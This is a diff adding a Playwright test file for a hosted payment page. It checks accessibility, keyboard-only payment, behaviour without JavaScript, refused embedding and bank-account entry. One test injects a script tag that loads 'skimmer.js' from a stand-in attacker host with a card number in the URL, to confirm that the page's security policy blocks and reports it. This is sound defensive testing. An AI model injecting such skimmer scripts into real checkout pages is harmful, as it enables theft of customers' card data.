@@ -1,0 +1,158 @@
+import { AxeBuilder } from '@axe-core/playwright';
+import type { Page } from '@playwright/test';
+import { looks } from '../../accessibility.ts';
+import { fillBank, fillCard, fillCustomer, makeLink, ownAmount, received } from '../../hosted-page.ts';
+import { expect, test } from '../../portal-test.ts';
+
+async function expectUsable(page: Page, name: string): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
+  expect(
+    violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`),
+    name,
+  ).toEqual([]);
+  const overflow = await page.evaluate(
+    () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+  );
+  expect(overflow, `${name}: wider than the screen`).toBe(0);
+}
+
+const everything = {
+  title: 'Winter fair with a rather long name, for all of the family',
+  description: 'Doors open at six.',
+  taxBasisPoints: 825,
+  tips: [10, 15, 20],
+  amount: {
+    kind: 'items' as const,
+    items: [
+      { name: 'Ticket with a rather long name', unitMinor: 2_500, quantity: 2, maxQuantity: 10 },
+      { name: 'Program', unitMinor: 300, quantity: 1, maxQuantity: null },
+    ],
+  },
+  customFields: [{ label: 'Size', type: 'list' as const, isRequired: true, options: ['S', 'M'] }],
+};
+
+const words = {
+  en: { pay: /^Pay /, wrong: 'Check the card number' },
+  vi: { pay: /^Thanh toán /, wrong: 'Hãy kiểm tra số thẻ' },
+} as const;
+
+test('the page can be used by everyone, in every look', async ({ browser, baseURL, page, signIn }) => {
+  test.setTimeout(300_000);
+  await signIn('partner.demo');
+  const [link, used] = [
+    await makeLink(page, everything),
+    await makeLink(page, { expiresAt: '2020-01-01T00:00:00Z' }),
+  ];
+  for (const { colorScheme, language, width } of looks) {
+    const name = `${colorScheme}, ${language}, ${width} px`;
+    const theirs = await browser.newPage({
+      ...(baseURL && { baseURL }),
+      ...{ colorScheme, viewport: { width, height: 900 }, locale: language === 'vi' ? 'vi-VN' : 'en-US' },
+    });
+    await theirs.goto(`/pay/${link.code}`);
+    const pay = theirs.getByRole('button', { name: words[language].pay });
+    await expect(pay).toBeVisible();
+    await expectUsable(theirs, `form: ${name}`);
+    await theirs.locator('#number').fill('4242424242424241');
+    await pay.click();
+    await expect(theirs.getByText(words[language].wrong)).toBeVisible();
+    await expectUsable(theirs, `what is wrong: ${name}`);
+    await theirs.goto(`/pay/${used.code}`);
+    await expectUsable(theirs, `expired: ${name}`);
+    await theirs.close();
+  }
+});
+
+test('a customer pays by keys alone', async ({ browser, baseURL, page, signIn }) => {
+  await signIn('partner.demo');
+  const link = await makeLink(page, { amount: ownAmount() });
+  const theirs = await browser.newPage({ ...(baseURL && { baseURL }) });
+  await theirs.goto(`/pay/${link.code}`);
+  await expect(theirs.getByLabel('Full name')).toBeVisible();
+  const type = async (text: string) => {
+    await theirs.keyboard.press('Tab');
+    await theirs.keyboard.type(text);
+  };
+  await type('Ada Example');
+  await type('ada.keys@example.com');
+  await type('60601');
+  // How to pay: a card, which is chosen already.
+  await theirs.keyboard.press('Tab');
+  await expect(theirs.getByLabel('Card', { exact: true })).toBeFocused();
+  await type('4242424242424242');
+  await type('1240');
+  await type('123');
+  await theirs.keyboard.press('Enter');
+  await expect(received(theirs)).toBeFocused();
+  await expectUsable(theirs, 'receipt');
+  await theirs.close();
+});
+
+test('a page without JavaScript says what is to be paid, and what to do', async ({
+  browser,
+  baseURL,
+  page,
+  signIn,
+}) => {
+  await signIn('partner.demo');
+  const link = await makeLink(page, { title: 'Without scripts' });
+  const context = await browser.newContext({ ...(baseURL && { baseURL }), javaScriptEnabled: false });
+  const theirs = await context.newPage();
+  await theirs.goto(`/pay/${link.code}`);
+  await expect(theirs.getByRole('heading', { name: 'Without scripts' })).toBeVisible();
+  await expect(theirs.getByText('$24.00')).toBeVisible();
+  await expect(theirs.getByText(/turn on JavaScript/)).toBeVisible();
+  await context.close();
+});
+
+test('scripts that are not the page’s own do not run, and are reported', async ({
+  browser,
+  baseURL,
+  page,
+  signIn,
+}) => {
+  await signIn('partner.demo');
+  const link = await makeLink(page);
+  const theirs = await browser.newPage({ ...(baseURL && { baseURL }) });
+  const reports: string[] = [];
+  theirs.on('request', (request) => {
+    if (/\/(report|policy)$/.test(request.url())) reports.push(request.postData() ?? '');
+  });
+  await theirs.goto(`/pay/${link.code}`);
+  await fillCustomer(theirs, 'ada@example.com');
+  await theirs
+    .evaluate(() => {
+      const script = document.createElement('script');
+      script.setAttribute('src', 'https://evil.example/skimmer.js?card=4242424242424242');
+      document.head.append(script);
+    })
+    .catch(() => undefined);
+  await expect.poll(() => reports.join('\n')).toContain('https://evil.example/skimmer.js');
+  expect(reports.join('\n')).not.toContain('4242424242424242"');
+  await theirs.close();
+});
+
+test.describe('a site that embeds the page', () => {
+  // The browser says so where a frame is refused.
+  test.use({ expectedErrors: [/frame-ancestors|refused/i] });
+
+  test('may do so where its checkout page allows it, and nowhere else', async ({ page, signIn }) => {
+    await signIn('partner.demo');
+    const link = await makeLink(page, { amount: ownAmount() });
+    // The portal is no site that was allowed.
+    await page.setContent(`<iframe title="Checkout" src="/pay/${link.code}?embed=1"></iframe>`);
+    await expect(page.frameLocator('iframe').getByLabel('Email')).toHaveCount(0);
+  });
+});
+
+test('a bank account is asked for nothing of a card', async ({ browser, baseURL, page, signIn }) => {
+  await signIn('partner.demo');
+  const link = await makeLink(page, { amount: ownAmount() });
+  const theirs = await browser.newPage({ ...(baseURL && { baseURL }) });
+  await theirs.goto(`/pay/${link.code}`);
+  await fillCard(theirs);
+  await fillBank(theirs);
+  await expect(theirs.getByLabel('Card number')).toHaveCount(0);
+  await expectUsable(theirs, 'bank account');
+  await theirs.close();
+});
